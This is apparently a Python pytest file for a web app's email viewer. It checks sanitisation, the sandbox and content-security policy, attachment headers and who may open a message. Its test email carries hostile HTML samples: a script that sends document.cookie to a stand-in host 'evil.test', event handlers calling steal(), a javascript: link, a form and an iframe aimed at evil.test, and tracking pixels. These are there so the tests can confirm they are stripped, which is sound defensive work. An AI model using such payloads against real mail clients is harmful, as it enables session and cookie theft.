"""One email's page (/emails/ID): what it shows, what its HTML may do, who may open it; and
the panel's pop-up when new mail arrives."""

# ruff: noqa: F811  (pytest fixtures imported from widget_support are parameters here)
from __future__ import annotations

import asyncio
import base64

import pytest

from models.contacts.clients import ClientInput, create_client
from models.messaging.mail_inbox import record_incoming
from models.schema.activity import EmailMessage
from models.schema.mail import MailAccount, MailAccountShare, MailAttachment, MailFolderState
from tests.web.conftest import http_login
from tests.web.widget_support import (  # noqa: F401  (fixtures)
    chromium,
    contexts,
    eventually,
    log_in,
    panel,
)

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
PDF = b"%PDF-1.4\n<html><script>alert(1)</script></html>\n"
HTML = (
    '<html><head><style>body{background:url("https://tracker.test/bg.gif")}</style></head>'
    '<body onload="steal()"><p onclick="steal()">Hola Luis, <b>adjunto</b> el presupuesto.</p>'
    "<script>document.location='https://evil.test/?c='+document.cookie</script>"
    '<img src="cid:firma@ejemplo.es" alt="firma">'
    '<img src="https://tracker.test/open.gif" alt="pixel">'
    '<a href="javascript:steal()">mal</a> <a href="https://ejemplo.es/catalogo">catálogo</a>'
    "<form action='https://evil.test'><input name=p></form><iframe src='https://evil.test'></iframe>"
    "</body></html>"
)


def raw_message() -> bytes:
    return (
        b"Message-ID: <web-1@ejemplo.es>\r\nDate: Tue, 24 Nov 2026 18:05:12 +0100\r\n"
        b"From: =?UTF-8?Q?Jos=C3=A9_Pe=C3=B1a?= <jose.pena@ejemplo.es>\r\n"
        b"To: luis@acme.test\r\nSubject: Presupuesto <a\xc3\xb1o> 2027\r\n"
        b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b1"\r\n\r\n'
        b"--b1\r\nContent-Type: multipart/related; boundary=r1\r\n\r\n"
        b"--r1\r\nContent-Type: text/html; charset=utf-8\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(HTML.encode("utf-8"))
        + b"--r1\r\nContent-Type: image/png\r\nContent-ID: <firma@ejemplo.es>\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(PNG) + b"\r\n--r1--\r\n"
        b"--b1\r\nContent-Type: application/pdf\r\n"
        b"Content-Disposition: attachment; filename*=utf-8''presupuesto%20a%C3%B1o.pdf\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(PDF) + b"\r\n--b1--\r\n"
    )


async def store_mail(world, files_dir, clock, hub=None):
    """Luis's client writes to Luis's mailbox (not shared with anyone)."""
    client = await create_client(
        world.luis, ClientInput(name="Talleres Peña", emails=["jose.pena@ejemplo.es"])
    )
    account = await MailAccount.create(
        owner_id=world.luis.id,
        address="luis@acme.test",
        login="luis@acme.test",
        imap_host="127.0.0.1",
        imap_port=143,
        smtp_host="127.0.0.1",
        smtp_port=25,
    )
    inbox = await MailFolderState.create(account_id=account.id, name="INBOX")
    done = await record_incoming(
        account,
        inbox,
        1,
        raw_message(),
        clock=clock,
        files_dir=files_dir,
        max_attachment_bytes=1_000_000,
        hub=hub,
        patterns=[],
    )
    email = await EmailMessage.get(id=done.email_id)
    files = {a.filename: a for a in await MailAttachment.filter(email_id=email.id)}
    return client, email, files


@pytest.fixture
async def stored(world, world_server, clock):
    return await store_mail(world, world_server.settings.data_dir / "mail", clock)


async def test_the_message_page_shows_the_mail_in_spanish_with_its_files(
    world, world_server, http, stored
):
    client, email, files = stored
    await http_login(http, world_server.url, "luis", world.password)
    async with http.get(f"{world_server.url}/emails/{email.id}") as resp:
        assert resp.status == 200
        page = await resp.text()
    assert "Presupuesto &lt;año&gt; 2027" in page
    assert "<año>" not in page
    assert "Remitente" in page and "jose.pena@ejemplo.es" in page
    assert "Archivos adjuntos" in page
    pdf = files["presupuesto año.pdf"]
    assert f'href="/emails/{email.id}/attachments/{pdf.id}"' in page
    # The signature image is part of the body, not a file in the list.
    assert f"/emails/{email.id}/attachments/{files['attachment-1.png'].id}" not in page
    assert f'<a href="/clients/{client.id}">Volver a Talleres Peña</a>' in page
    assert "Las imágenes remotas están ocultas" in page
    assert f'src="/emails/{email.id}/body"' in page
    assert 'sandbox="allow-same-origin allow-popups allow-popups-to-escape-sandbox"' in page
    assert "steal()" not in page  # the HTML is never part of the page itself
    async with http.get(f"{world_server.url}/clients/{client.id}") as resp:
        card = await resp.text()
    assert f'<a href="/emails/{email.id}">Correo recibido de jose.pena@ejemplo.es' in card


async def test_the_body_is_sanitized_and_served_under_its_own_policy(
    world, world_server, http, stored
):
    _client, email, files = stored
    await http_login(http, world_server.url, "luis", world.password)
    async with http.get(f"{world_server.url}/emails/{email.id}/body") as resp:
        assert resp.status == 200
        policy = resp.headers["Content-Security-Policy"]
        body = await resp.text()
    assert "default-src 'none'" in policy
    assert "img-src 'self' data:;" in policy
    assert "sandbox allow-same-origin allow-popups" in policy
    assert "script" not in policy
    assert "<p>Hola Luis, <b>adjunto</b> el presupuesto.</p>" in body
    for gone in ("<script", "steal()", "onload", "onclick", "<form", "<iframe", "tracker.test"):
        assert gone not in body, gone
    signature = files["attachment-1.png"]
    assert f'<img src="/emails/{email.id}/attachments/{signature.id}" alt="firma">' in body
    assert '<img alt="pixel">' in body
    assert (
        '<a href="https://ejemplo.es/catalogo" target="_blank" rel="noopener noreferrer">' in body
    )
    async with http.get(f"{world_server.url}/emails/{email.id}/body?images=1") as resp:
        assert "img-src 'self' data: https: http:" in resp.headers["Content-Security-Policy"]
        shown = await resp.text()
    assert '<img src="https://tracker.test/open.gif" alt="pixel">' in shown


async def test_an_attachment_downloads_with_its_name_and_never_as_a_page(
    world, world_server, http, stored
):
    _client, email, files = stored
    pdf = files["presupuesto año.pdf"]
    await http_login(http, world_server.url, "luis", world.password)
    async with http.get(f"{world_server.url}/emails/{email.id}/attachments/{pdf.id}") as resp:
        assert resp.status == 200
        assert await resp.read() == PDF
        assert resp.headers["Content-Disposition"] == (
            'attachment; filename="presupuesto a_o.pdf"; '
            "filename*=UTF-8''presupuesto%20a%C3%B1o.pdf"
        )
        assert resp.headers["Content-Type"] == "application/octet-stream"
        assert resp.headers["X-Content-Type-Options"] == "nosniff"


async def test_another_agent_gets_404_for_mail_of_a_client_they_may_not_see(
    world, world_server, http, stored
):
    client, email, files = stored
    pdf = files["presupuesto año.pdf"]
    await http_login(http, world_server.url, "marta", world.password)
    for path in (
        f"/emails/{email.id}",
        f"/emails/{email.id}/body",
        f"/emails/{email.id}/attachments/{pdf.id}",
        f"/emails/{email.id + 1000}",
        "/emails/99999999999999",
    ):
        async with http.get(f"{world_server.url}{path}") as resp:
            assert resp.status == 404, path
            assert "presupuesto" not in (await resp.text()).lower()
    # Once the mailbox is shared with her, she reads its mail, though not the client's card.
    await MailAccountShare.create(account_id=email.account_id, user_id=world.marta.id)
    async with http.get(f"{world_server.url}/emails/{email.id}") as resp:
        assert resp.status == 200
        page = await resp.text()
    assert "Presupuesto &lt;año&gt; 2027" in page
    assert f"/clients/{client.id}" not in page
    # The admin may see every client, so the message too.
    await http_login(http, world_server.url, "ana", world.password)
    async with http.get(f"{world_server.url}/emails/{email.id}") as resp:
        assert resp.status == 200


async def test_new_mail_pops_up_for_the_mailbox_user_and_opens_with_its_image(
    panel, contexts, world, clock
):
    luis = await log_in(await contexts(), panel, "luis", world.password)
    marta = await log_in(await contexts(), panel, "marta", world.password)
    await eventually(lambda: panel.sockets_of(world.luis.id) == 1)
    await eventually(lambda: panel.sockets_of(world.marta.id) == 1)
    _client, email, _files = await store_mail(
        world, panel.settings.data_dir / "mail", clock, hub=panel.hub
    )
    pop = luis.locator(f'.cw-mail[data-email-id="{email.id}"]')
    await pop.wait_for()
    assert "New email from José Peña <jose.pena@ejemplo.es>" in await pop.inner_text()
    assert await marta.locator(".cw-mail").count() == 0
    await pop.locator("a").click()
    await luis.wait_for_url(f"**/emails/{email.id}")
    frame = luis.frame_locator(".email-frame")
    await frame.locator("text=el presupuesto").wait_for()
    # The signature comes from our own attachment URL, with the session, inside the sandbox.
    image = frame.locator('img[alt="firma"]')
    await image.wait_for()
    await eventually_true(lambda: image.evaluate("i => i.complete && i.naturalWidth > 0"))
    assert await frame.locator("script").count() == 0


async def eventually_true(check, tries: int = 100) -> None:
    for _ in range(tries):
        if await check():
            return
        await asyncio.sleep(0.05)
    raise AssertionError("condition not reached")
